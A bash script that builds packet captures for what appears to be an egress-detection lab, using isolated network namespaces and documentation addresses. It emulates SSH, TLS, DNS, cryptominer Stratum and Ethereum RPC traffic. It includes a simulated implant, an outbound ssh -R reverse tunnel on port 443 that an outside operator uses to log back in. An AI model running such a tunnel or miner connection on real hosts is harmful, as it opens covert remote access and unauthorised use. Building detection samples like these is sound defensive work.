#!/bin/bash
# mkpcaps.sh - re-make the lab captures in pcaps/ (needs root: network namespaces).
#
#   tools/mkpcaps.sh              all lab captures, then the crafted ones (tools/mkpcap.py)
#   tools/mkpcaps.sh NAME ...     only these (ssh-forward-login ssh-nonstd-port ssh-reverse-tunnel
#                                 tls-sni dns-then-tls stratum-btc stratum-xmrig stratum-ethproxy
#                                 stratum-nicehash jsonrpc-eth-node crafted)
#
# Builds the lab with tools/lab.sh (train 10.20.0.10 -- router -- WAN delay -- outside), runs
# each scenario with tcpdump on the router's outside veth (r-out, the mirrored edge port), and
# tears everything down in a trap, killing only the PIDs started here. Nothing is routed outside
# the namespaces. Environment: OUT (default pcaps/), LAB_DELAY_MS (default 20).
set -euo pipefail

HERE=$(cd "$(dirname "$0")" && pwd)
TOP=$(dirname "$HERE")
OUT=${OUT:-$TOP/pcaps}
PY=/usr/bin/python3
SVC="$PY $HERE/labsvc.py"
EMU="$PY $HERE/stratum-emu.py"
export LAB_RUN=${LAB_RUN:-/tmp/egress-lab}
W=$(mktemp -d /tmp/mkpcaps.XXXXXX)
chmod 755 "$W"
PIDS=()
LAB_UP=0

log() { echo "mkpcaps: $*" >&2; }

cleanup() {
	local p
	for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null || true; done
	sleep 0.3
	for p in "${PIDS[@]}"; do kill -9 "$p" 2>/dev/null || true; done
	[ "$LAB_UP" = 1 ] && "$HERE/lab.sh" down
	rm -rf "$W"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

[ "$(id -u)" -eq 0 ] || { echo "mkpcaps: needs root (network namespaces)" >&2; exit 1; }
mkdir -p "$OUT" "$OUT/regress"

# bg NS CMD...: run CMD in namespace NS in the background, remember its PID
bg() {
	local ns=$1; shift
	ip netns exec "$ns" "$@" &
	PIDS+=($!)
	LASTPID=$!
}

stop() { kill "$1" 2>/dev/null || true; wait "$1" 2>/dev/null || true; }

# wait_listen NS ADDR:PORT [tcp|udp]
wait_listen() {
	local i=0 flag=-ltn
	[ "${3:-tcp}" = udp ] && flag=-lun
	until ip netns exec "$1" ss -H $flag "sport = :${2##*:}" | grep -q "${2%:*}:${2##*:}"; do
		i=$((i + 1)); [ $i -lt 100 ] || { log "nothing listens on $2 in $1"; exit 1; }
		sleep 0.1
	done
}

CAP_PID=
cap_start() {
	local f=$OUT/$1.pcap
	rm -f "$f"
	ip netns exec router tcpdump -i r-out -s 0 -U -n -Z root -w "$f" 2>"$W/tcpdump.err" &
	CAP_PID=$!
	PIDS+=($CAP_PID)
	local i=0
	until grep -q "listening on" "$W/tcpdump.err"; do
		i=$((i + 1)); [ $i -lt 50 ] || { cat "$W/tcpdump.err" >&2; exit 1; }
		sleep 0.1
	done
	sleep 0.3
	log "capturing $1"
}
cap_stop() {
	sleep 1
	stop "$CAP_PID"
	grep -v "listening on" "$W/tcpdump.err" >&2 || true
}

# ---------------------------------------------------------------- ssh plumbing
# One `user` login (uid 4242) with a home under $W, a private user database bind-mounted over
# /etc/passwd, /etc/shadow, /etc/group, a private /etc/hostname, tmpfs on /run and /var/log.
SSH_READY=0
ssh_setup() {
	[ $SSH_READY = 1 ] && return
	local e=$W/etc
	mkdir -p "$e" "$W/home/user/.ssh" "$W/keys"
	cp /etc/passwd "$e/passwd"; cp /etc/shadow "$e/shadow"; cp /etc/group "$e/group"
	echo "user:x:4242:4242:Lab User:$W/home/user:/bin/bash" >>"$e/passwd"
	echo "user:*:20000:0:99999:7:::" >>"$e/shadow"
	echo "user:x:4242:" >>"$e/group"
	ssh-keygen -q -t ed25519 -N '' -C user@lab -f "$W/keys/id_user"
	cp "$W/keys/id_user.pub" "$W/home/user/.ssh/authorized_keys"
	cat >"$W/home/user/.profile" <<-'EOF'
	PS1='\u@\h:\w\$ '
	export LANG=C.UTF-8
	EOF
	echo "hello from the lab" >"$W/home/user/notes.txt"
	mkdir -p "$W/home/user/data"
	chown -R 4242:4242 "$W/home/user"
	chmod 700 "$W/home/user/.ssh"
	SSH_READY=1
}

# sshd_start NS HOSTNAME "ListenAddress lines..."
sshd_start() {
	local ns=$1 hn=$2 listen=$3 d=$W/sshd-$1
	mkdir -p "$d"
	echo "$hn" >"$d/hostname"
	ssh-keygen -q -t ed25519 -N '' -f "$d/ssh_host_ed25519_key"
	ssh-keygen -q -t ecdsa -N '' -f "$d/ssh_host_ecdsa_key"
	{
		echo "$listen" | tr ';' '\n' | sed 's/^ *//;/^$/d;s/^/ListenAddress /'
		cat <<-EOF
		HostKey $d/ssh_host_ed25519_key
		HostKey $d/ssh_host_ecdsa_key
		PidFile $d/sshd.pid
		AuthorizedKeysFile $W/home/user/.ssh/authorized_keys
		PubkeyAuthentication yes
		PasswordAuthentication no
		KbdInteractiveAuthentication no
		UsePAM no
		StrictModes no
		PermitRootLogin no
		AllowTcpForwarding yes
		GatewayPorts no
		PrintMotd no
		PrintLastLog no
		UseDNS no
		AcceptEnv LANG LC_*
		EOF
	} >"$d/sshd_config"
	bg "$ns" unshare --mount --uts /bin/sh -c "
		mount --bind $W/etc/passwd /etc/passwd &&
		mount --bind $W/etc/shadow /etc/shadow &&
		mount --bind $W/etc/group /etc/group &&
		mount --bind $d/hostname /etc/hostname &&
		mount -t tmpfs tmpfs /run && mkdir -m 755 /run/sshd &&
		mount -t tmpfs tmpfs /var/log &&
		hostname $hn &&
		exec /usr/sbin/sshd -D -e -f $d/sshd_config" 2>"$d/sshd.log"
	eval "SSHD_PID_$ns=$LASTPID"
}

SSH_OPTS=(-F /dev/null -i "$W/keys/id_user" -o StrictHostKeyChecking=no
	-o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o ServerAliveInterval=0)

# ---------------------------------------------------------------- scenarios

outside_sshd() {
	ssh_setup
	if [ -z "${SSHD_PID_outside:-}" ]; then
		sshd_start outside bastion "203.0.113.22:22; 198.51.100.7:2222; 198.51.100.7:443"
		wait_listen outside 203.0.113.22:22
		wait_listen outside 198.51.100.7:2222
		wait_listen outside 198.51.100.7:443
	fi
}

do_ssh_forward_login() {
	outside_sshd
	cap_start ssh-forward-login
	ip netns exec train $SVC typer --seed 11 --line "ls" --line "whoami" --line "exit" -- \
	    ssh "${SSH_OPTS[@]}" -tt -p 22 user@203.0.113.22 2>>"$W/typer.log"
	cap_stop
}

do_ssh_nonstd_port() {
	outside_sshd
	cap_start ssh-nonstd-port
	ip netns exec train $SVC typer --seed 22 --line "uptime" --line "exit" -- \
	    ssh "${SSH_OPTS[@]}" -tt -p 2222 user@198.51.100.7 2>>"$W/typer.log"
	cap_stop
}

do_ssh_reverse_tunnel() {
	outside_sshd
	if [ -z "${SSHD_PID_train:-}" ]; then
		sshd_start train gpu-node-07 "127.0.0.1:22"
		wait_listen train 127.0.0.1:22
	fi
	cap_start ssh-reverse-tunnel
	# the implant: an outbound session to 198.51.100.7:443 that opens a remote forward
	bg train ssh "${SSH_OPTS[@]}" -N -o BatchMode=yes -o ExitOnForwardFailure=yes \
	    -R 2200:localhost:22 -p 443 user@198.51.100.7
	local tun=$LASTPID
	wait_listen outside 127.0.0.1:2200
	sleep 1.5
	# the operator, on the outside host, logs in back through the tunnel
	ip netns exec outside $SVC typer --seed 33 --line "id" --line "hostname" \
	    --line "ls /" --line "exit" -- \
	    ssh "${SSH_OPTS[@]}" -tt -p 2200 user@127.0.0.1 2>>"$W/typer.log"
	sleep 2
	stop "$tun"
	cap_stop
}

tls_cert() {
	[ -f "$W/tls.key" ] && return
	openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj "/CN=$1" \
	    -keyout "$W/tls.key" -out "$W/tls.crt" 2>/dev/null
}

do_tls_sni() {
	tls_cert www.example.org
	bg outside openssl s_server -quiet -www -accept 198.51.100.20:443 \
	    -cert "$W/tls.crt" -key "$W/tls.key"
	local srv=$LASTPID
	wait_listen outside 198.51.100.20:443
	cap_start tls-sni
	{ printf 'GET / HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n'; sleep 1.5; } |
	    timeout 10 ip netns exec train openssl s_client -quiet -servername www.example.org \
	    -connect 198.51.100.20:443 >/dev/null 2>"$W/s_client.log" || true
	cap_stop
	stop "$srv"
}

do_dns_then_tls() {
	tls_cert www.example.org
	bg outside $SVC dns-server --listen 198.51.100.53:53 \
	    --map pool.supportxmr.com=198.51.100.30 --map www.example.org=198.51.100.20
	local dns=$LASTPID
	wait_listen outside 198.51.100.53:53 udp
	bg outside openssl s_server -quiet -www -accept 198.51.100.30:443 \
	    -cert "$W/tls.crt" -key "$W/tls.key"
	local srv=$LASTPID
	wait_listen outside 198.51.100.30:443
	cap_start dns-then-tls
	ip netns exec train $SVC dns-query --server 198.51.100.53 pool.supportxmr.com
	sleep 0.3
	{ printf 'GET / HTTP/1.1\r\nHost: pool.supportxmr.com\r\n\r\n'; sleep 1.5; } |
	    timeout 10 ip netns exec train openssl s_client -quiet -noservername \
	    -connect 198.51.100.30:443 >/dev/null 2>"$W/s_client.log" || true
	cap_stop
	stop "$srv"; stop "$dns"
}

# do_stratum DIALECT ADDR:PORT
do_stratum() {
	bg outside $EMU --role pool --dialect "$1" --listen "$2" --delay-ms 400 --once
	local pool=$LASTPID
	wait_listen outside "$2"
	cap_start "stratum-$1"
	ip netns exec train $EMU --role miner --dialect "$1" --connect "$2" --submits 3 --delay-ms 900
	cap_stop
	stop "$pool"
}

do_jsonrpc_eth_node() {
	bg outside $SVC rpc-server --listen 198.51.100.40:8545
	local rpc=$LASTPID
	bg outside $SVC log-sink --listen 198.51.100.40:5170
	local sink=$LASTPID
	wait_listen outside 198.51.100.40:8545
	wait_listen outside 198.51.100.40:5170
	cap_start jsonrpc-eth-node
	ip netns exec train $SVC rpc-client --connect 198.51.100.40:8545 --gap-ms 300 >/dev/null
	ip netns exec train $SVC log-ship --connect 198.51.100.40:5170 --lines 12 --gap-ms 150
	cap_stop
	stop "$rpc"; stop "$sink"
}

# ---------------------------------------------------------------- main
ALL="ssh-forward-login ssh-nonstd-port ssh-reverse-tunnel tls-sni dns-then-tls stratum-btc
stratum-xmrig stratum-ethproxy stratum-nicehash jsonrpc-eth-node crafted"
WANT=${*:-$ALL}

need_lab() {
	[ $LAB_UP = 1 ] && return
	"$HERE/lab.sh" down 2>/dev/null || true
	LAB_UP=1
	"$HERE/lab.sh" up
}

for n in $WANT; do
	case $n in
	ssh-forward-login) need_lab; do_ssh_forward_login ;;
	ssh-nonstd-port) need_lab; do_ssh_nonstd_port ;;
	ssh-reverse-tunnel) need_lab; do_ssh_reverse_tunnel ;;
	tls-sni) need_lab; do_tls_sni
		tshark -r "$OUT/tls-sni.pcap" -F pcapng -w "$OUT/tls-sni.pcapng" ;;
	dns-then-tls) need_lab; do_dns_then_tls ;;
	stratum-btc) need_lab; do_stratum btc 198.51.100.31:3333 ;;
	stratum-xmrig) need_lab; do_stratum xmrig 198.51.100.30:14444 ;;
	stratum-ethproxy) need_lab; do_stratum ethproxy 198.51.100.32:443 ;;
	stratum-nicehash) need_lab; do_stratum nicehash 198.51.100.33:34567 ;;
	jsonrpc-eth-node) need_lab; do_jsonrpc_eth_node ;;
	crafted) (cd "$TOP" && $PY "$HERE/mkpcap.py" --out "$OUT") ;;
	*) log "unknown capture: $n"; exit 2 ;;
	esac
done
log "done"
